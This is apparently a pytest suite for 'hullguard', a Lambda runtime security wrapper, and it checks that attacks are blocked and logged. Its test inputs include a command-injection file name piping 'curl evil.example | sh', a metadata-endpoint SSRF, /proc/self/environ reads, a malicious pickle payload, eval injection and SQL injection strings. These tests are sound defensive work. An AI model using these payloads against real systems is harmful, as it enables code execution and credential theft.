"""End to end under the real runtime interface client (awslambdaric) and a local Runtime API.

Each test starts the orders function (``tests/fixtures/runtime/functions/orders``) in its own
process, invokes it like Lambda would and checks both the caller's answer and the security events
the function printed.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import platform
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from .emulator import FAKE_CREDENTIALS
from .support import FIREWALL_OFF, api_event, load_event

pytestmark = pytest.mark.slow
LAYER = Path(__file__).resolve().parents[2] / "layer" / "hullguard-wrapper"


def body(outcome: object) -> dict:
    answer = outcome.body  # type: ignore[attr-defined]
    assert isinstance(answer, dict), answer
    return json.loads(answer["body"])


def rules(fn: object, action: str | None = None) -> list[str]:
    return [e["finding_info"]["analytic"]["uid"] for e in fn.events()  # type: ignore[attr-defined]
            if action is None or e["action"] == action]


def assert_no_credentials(text: str) -> None:
    for value in FAKE_CREDENTIALS.values():
        assert value not in text


def test_cold_start_then_warm_invocations(function):
    fn = function(policy={"firewall": FIREWALL_OFF})
    answers = [fn.invoke(api_event()) for _ in range(4)]
    assert all(a.kind == "response" and a.body["statusCode"] == 200 for a in answers)
    assert [body(a)["invocation"] for a in answers] == [1, 2, 3, 4]
    assert len({body(a)["pid"] for a in answers}) == 1  # one warm execution environment
    assert fn.events() == []  # a clean function emits nothing


def test_shell_out_with_event_data_is_blocked(function):
    fn = function(policy={"firewall": FIREWALL_OFF})
    answer = fn.invoke(api_event({"action": "thumbnail", "file": "a.jpg; curl evil.example | sh"}))
    assert answer.body["statusCode"] == 500
    assert "Traceback" not in answer.body["body"] and ".py" not in answer.body["body"]
    blocked = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-PROC-001"]
    assert blocked and blocked[0]["action"] == "blocked"
    detail = blocked[0]["unmapped"]
    assert "curl evil.example" in detail["evidence"]
    assert any("logic.py" in frame for frame in detail["detail"]["stack"])  # forensic: who asked
    assert blocked[0]["unmapped"]["cold_start"] is True
    assert blocked[0]["unmapped"]["function"]["request_id"] == answer.request_id
    # the function stays usable afterwards, and later events are warm
    assert fn.invoke(api_event()).body["statusCode"] == 200
    fn.invoke(api_event({"action": "thumbnail", "file": "b.jpg"}))
    again = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-PROC-001"]
    assert len(again) == 2 and again[1]["unmapped"]["cold_start"] is False


def test_ssrf_blocked_and_listed_host_works(function, web_servers):
    allowed, unlisted = web_servers
    fn = function(policy={"firewall": FIREWALL_OFF, "network": {"allow": [f"localhost:{allowed}"]}})
    ok = fn.invoke(api_event({"action": "fetch", "url": f"http://localhost:{allowed}/"}))
    assert body(ok) == {"fetched": "hello from an allowed host"}
    metadata = fn.invoke(api_event({"action": "fetch", "url": "http://169.254.169.254/latest/meta-data/"}))
    other = fn.invoke(api_event({"action": "fetch", "url": f"http://127.0.0.1:{unlisted}/"}))
    assert metadata.body["statusCode"] == 500 and other.body["statusCode"] == 500
    events = {e["finding_info"]["analytic"]["uid"]: e for e in fn.events()}
    assert events["HG-RT-NET-002"]["action"] == "blocked"
    assert events["HG-RT-NET-002"]["unmapped"]["location"] == "169.254.169.254:80"
    assert events["HG-RT-NET-001"]["unmapped"]["location"] == f"127.0.0.1:{unlisted}"


def test_network_is_reported_not_blocked_without_allow_list(function, web_servers):
    port = web_servers[0]
    fn = function(policy={"firewall": FIREWALL_OFF})
    answer = fn.invoke(api_event({"action": "fetch", "url": f"http://127.0.0.1:{port}/"}))
    assert body(answer) == {"fetched": "hello from an allowed host"}
    alerts = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-NET-001"]
    assert [e["action"] for e in alerts] == ["alerted"]


@pytest.mark.parametrize("target", ["source", "/proc/self/environ"])
def test_reading_handler_source_and_process_secrets_is_blocked(function, target):
    fn = function(policy={"firewall": FIREWALL_OFF})
    path = str(fn.task_root / "logic.py") if target == "source" else target
    answer = fn.invoke(api_event({"action": "read", "path": path}))
    assert answer.body["statusCode"] == 500
    assert "def handle" not in json.dumps(answer.body)
    assert_no_credentials(json.dumps(answer.body))
    expected = "HG-RT-FILE-001" if target == "source" else "HG-RT-FILE-002"
    assert expected in rules(fn, "blocked")
    # imports of the same source files still work: the function keeps answering
    assert fn.invoke(api_event()).body["statusCode"] == 200


def test_files_left_in_tmp_are_cleaned(function, tmp_path):
    customer = f"c{os.getpid()}{tmp_path.name[-6:]}"
    fn = function(policy={"firewall": FIREWALL_OFF, "tmp": {"cleanup": "delete"}})
    answer = fn.invoke(api_event({"action": "export", "customer": customer}))
    assert body(answer)["exists"] is True
    assert not Path(f"/tmp/export-{customer}.csv").exists()  # gone before the next invocation
    cleaned = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-TMP-003"]
    assert cleaned and f"/tmp/export-{customer}.csv" in cleaned[0]["unmapped"]["detail"]["deleted"]


def test_environ_dump_error_messages_and_logs_leak_no_credentials(function):
    fn = function(policy={"firewall": FIREWALL_OFF})
    dump = fn.invoke(api_event({"action": "debug"}))
    environ = body(dump)["environ"]
    assert environ["AWS_SECRET_ACCESS_KEY"] == "****" and environ["AWS_SESSION_TOKEN"] == "****"
    failure = fn.invoke(api_event({"action": "fail"}))
    assert failure.body["statusCode"] == 500
    assert json.loads(failure.body["body"])["message"] == "Internal server error"
    assert "logic.py" not in failure.body["body"]
    fn.invoke(api_event({"action": "log"}))
    output = fn.stdout() + fn.stderr()
    assert_no_credentials(json.dumps(dump.body) + json.dumps(failure.body) + output)
    assert "credentials in use:" in output and "session token ****" in output
    # the full error, masked, is in the security log for whoever investigates
    verbose = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-ERR-001"]
    assert "RuntimeError: cannot connect with ****" in verbose[0]["unmapped"]["detail"]["traceback"]


def test_direct_invocation_error_is_generic(function):
    fn = function(policy={"firewall": FIREWALL_OFF})
    answer = fn.invoke({"body": json.dumps({"action": "fail"})})  # a direct Invoke, not HTTP
    assert answer.kind == "error" and answer.body["errorType"] == "FunctionError"
    assert answer.body["errorMessage"] == f"Internal server error (request id {answer.request_id})"
    document = json.dumps(answer.body)
    assert "logic.py" not in document and "cannot connect" not in document
    assert_no_credentials(document)


def test_credentials_removed_from_environ(function):
    fn = function(policy={"firewall": FIREWALL_OFF, "credentials": {"remove_from_environ": True}})
    environ = body(fn.invoke(api_event({"action": "debug"})))["environ"]
    assert not {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"} & set(environ)


def test_pickle_payload_is_blocked(function):
    class Exploit:
        def __reduce__(self):
            return (os.system, ("id > /tmp/pwned",))

    payload = base64.b64encode(pickle.dumps(Exploit())).decode()
    fn = function(policy={"firewall": FIREWALL_OFF})
    answer = fn.invoke(api_event({"action": "restore", "state": payload}))
    assert answer.body["statusCode"] == 500
    assert "HG-RT-CODE-002" in rules(fn, "blocked")
    plain = base64.b64encode(pickle.dumps({"cart": [1, 2]})).decode()  # plain data still loads
    assert body(fn.invoke(api_event({"action": "restore", "state": plain}))) == {"state": "{'cart': [1, 2]}"}


def test_eval_of_event_data_is_blocked(function):
    fn = function(policy={"firewall": FIREWALL_OFF})
    answer = fn.invoke(api_event({"action": "calc", "expr": "__import__('os').getcwd()"}))
    assert answer.body["statusCode"] == 500
    assert "HG-RT-CODE-001" in rules(fn, "blocked")


def test_trigger_not_in_policy_is_rejected(function):
    fn = function(policy={"invokers": {"triggers": ["api-gateway-rest"]}})
    assert fn.invoke(api_event()).body["statusCode"] == 200
    answer = fn.invoke(load_event("sqsEvent.json"))
    assert answer.kind == "error"
    assert "rejected by security policy" in answer.body["errorMessage"]
    assert len(answer.body["stackTrace"]) <= 1  # one hullguard frame at most, none of the function's
    events = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-INV-001"]
    assert events[0]["unmapped"]["location"] == "sqs" and events[0]["action"] == "blocked"


def test_alert_mode_reports_without_blocking(function):
    fn = function(policy={"firewall": FIREWALL_OFF}, env={"HULLGUARD_MODE": "alert"})
    answer = fn.invoke(api_event({"action": "read", "path": "/proc/self/environ"}))
    assert answer.body["statusCode"] == 200  # the read happened: report-only
    event = next(e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-FILE-002")
    assert event["action"] == "alerted" and event["unmapped"]["detail"]["would_block"] is True


def test_firewall_blocks_injection_before_the_handler(function):
    fn = function()
    event = api_event({"action": "list"})
    event["queryStringParameters"] = {"id": "1' OR '1'='1' --"}
    answer = fn.invoke(event)
    assert answer.body["statusCode"] == 403
    firewall = [e for e in fn.events() if e["unmapped"]["source"] == "firewall"]
    assert firewall and firewall[0]["action"] == "blocked" and firewall[0]["unmapped"]["trigger"] == "api-gateway-rest"


def test_batch_with_one_malicious_record_processes_the_rest(function):
    fn = function()
    event = load_event("sqsEvent.json")
    good, bad = event["Records"][0]["messageId"], event["Records"][1]["messageId"]
    event["Records"][1]["body"] = json.dumps({"order": "1 UNION SELECT password FROM users --"})
    answer = fn.invoke(event)
    assert answer.body == {"processed": [good], "batchItemFailures": [{"itemIdentifier": bad}]}
    firewall = [e for e in fn.events() if e["unmapped"]["source"] == "firewall"]
    assert firewall and all(e["unmapped"]["detail"]["record"] == 1 for e in firewall)


def test_oversized_event_and_near_timeout_are_reported(function):
    fn = function(policy={"firewall": FIREWALL_OFF, "limits": {"max_event_bytes": 4096, "timeout_margin_ms": 1000}})
    big = api_event({"action": "list", "padding": "x" * 5000})
    assert fn.invoke(big).body["statusCode"] == 200  # alert by default: reported, served
    slow = fn.invoke(api_event({"action": "slow", "seconds": 0.8}), deadline_ms=1500)
    assert body(slow) == {"slept": 0.8}
    events = {e["finding_info"]["analytic"]["uid"]: e for e in fn.events()}
    assert events["HG-RT-LIM-001"]["unmapped"]["detail"]["bytes"] > 5000
    assert events["HG-RT-LIM-002"]["action"] == "alerted"  # reported while the invocation still ran
    assert events["HG-RT-LIM-002"]["unmapped"]["risk"] == "denial-of-service"
    strict = function(policy={"firewall": FIREWALL_OFF, "limits": {"max_event_bytes": 4096, "event_size": "block"}})
    assert strict.invoke(big).body["statusCode"] == 403


def test_broken_policy_file_fails_cold_start_precisely(function):
    fn = function(policy_file="network:\n  allow:\n    - api.example.com\n    - '*.example.org'\n    - 10.0.0.0/33\n")
    error = fn.wait_init_error()
    assert "network.allow[2]: '10.0.0.0/33' is not a valid CIDR" in error["errorMessage"]
    assert "hullguard.yml" in error["errorMessage"]


def test_no_code_change_handler(function):
    fn = function("hullguard.handler.handler", env={"HULLGUARD_HANDLER": "plain.handler"},
                  policy={"firewall": FIREWALL_OFF})
    assert body(fn.invoke(api_event()))["invocation"] == 1
    answer = fn.invoke(api_event({"action": "thumbnail", "file": "x; id"}))
    assert answer.body["statusCode"] == 500 and "HG-RT-PROC-001" in rules(fn, "blocked")
    assert body(fn.invoke(api_event()))["invocation"] == 3


def test_exec_wrapper(function):
    fn = function("plain.handler", wrapper=LAYER, policy={"firewall": FIREWALL_OFF})
    assert body(fn.invoke(api_event()))["invocation"] == 1
    answer = fn.invoke(api_event({"action": "read", "path": "/proc/self/environ"}))
    assert answer.body["statusCode"] == 500 and "HG-RT-FILE-002" in rules(fn, "blocked")


def test_exec_wrapper_with_a_runtime_that_reads_the_handler_from_the_environment(function):
    # like the managed Python runtimes: the bootstrap takes the handler from _HANDLER, not from its arguments
    bootstrap = ["/bin/sh", "-c", 'exec "$0" -m awslambdaric "$_HANDLER"', sys.executable]
    fn = function("plain.handler", wrapper=LAYER, command=bootstrap, policy={"firewall": FIREWALL_OFF})
    assert body(fn.invoke(api_event()))["invocation"] == 1
    answer = fn.invoke(api_event({"action": "calc", "expr": "__import__('os').getcwd()"}))
    assert answer.body["statusCode"] == 500 and "HG-RT-CODE-001" in rules(fn, "blocked")


def test_layer_zip_protects_a_function_through_the_exec_wrapper(function, tmp_path):
    repo = Path(__file__).resolve().parents[2]
    # google-re2 only for this interpreter: the script takes it from the installed copy (no network).
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    build = subprocess.run(["bash", "scripts/build-layer.sh"], cwd=repo, capture_output=True, text=True,
                           env=dict(os.environ, PY=sys.executable, RE2_PYTHONS=version, ARCH=platform.machine(),
                                    COMPILED_PYTHONS=""))  # the compiled layer: test_fw_layer_compiled.py
    assert build.returncode == 0, build.stderr
    opt = tmp_path / "opt"
    with zipfile.ZipFile(repo / "dist" / "hullguard-layer.zip") as layer:
        layer.extractall(opt)
        names = layer.namelist()
    # hullguard's in-function parts, PyYAML and google-re2 (the firewall's one-pass gate), nothing else
    assert not [n for n in names if n.startswith("python/") and n.split("/")[1] not in ("hullguard", "yaml", "re2")]
    assert not [n for n in names if "/cli/" in n or "/scanner/" in n or "/console/" in n]
    assert [n for n in names if n.startswith(f"python/re2/_re2.cpython-{version.replace('.', '')}")]
    (opt / "hullguard-wrapper").chmod(0o755)
    where = subprocess.run(
        [sys.executable, "-c", "import hullguard, re2; from hullguard.firewall import Firewall; "
         "print(hullguard.__file__, re2.__file__, Firewall()._gate is not None)"],
        env=dict(os.environ, PYTHONPATH=str(opt / "python")), capture_output=True, text=True)
    hullguard_file, re2_file, gated = where.stdout.split()
    # hullguard and the firewall's gate both load from the layer
    assert hullguard_file.startswith(str(opt / "python")) and re2_file.startswith(str(opt / "python"))
    assert gated == "True"
    fn = function("plain.handler", wrapper=opt / "hullguard-wrapper", pythonpath=[opt / "python"],
                  policy={"firewall": FIREWALL_OFF})
    assert body(fn.invoke(api_event()))["invocation"] == 1
    answer = fn.invoke(api_event({"action": "thumbnail", "file": "x; id"}))
    assert answer.body["statusCode"] == 500 and "HG-RT-PROC-001" in rules(fn, "blocked")


def test_bug_inside_hullguard_keeps_the_function_answering(function):
    fn = function("faulty.handler", policy={"firewall": FIREWALL_OFF})
    answer = fn.invoke(api_event({"action": "export", "customer": "bug"}))
    assert body(answer)["exists"] is True  # fail open: the handler ran and answered
    internal = [e for e in fn.events() if e["finding_info"]["analytic"]["uid"] == "HG-RT-INT-001"]
    assert internal and "simulated hullguard bug" in internal[0]["unmapped"]["detail"]["error"]
    assert fn.invoke(api_event()).body["statusCode"] == 200


def test_bug_inside_hullguard_fail_closed(function):
    fn = function("faulty.handler", policy={"firewall": FIREWALL_OFF, "fail_mode": "closed"})
    answer = fn.invoke(api_event({"action": "export", "customer": "bugclosed"}))
    # the open() the hook could not judge was refused, and the caller got the generic answer
    assert answer.body.get("statusCode") == 500, [e["unmapped"]["detail"] for e in fn.events()]
    assert any(e["unmapped"]["detail"].get("fail_mode") == "closed" for e in fn.events())
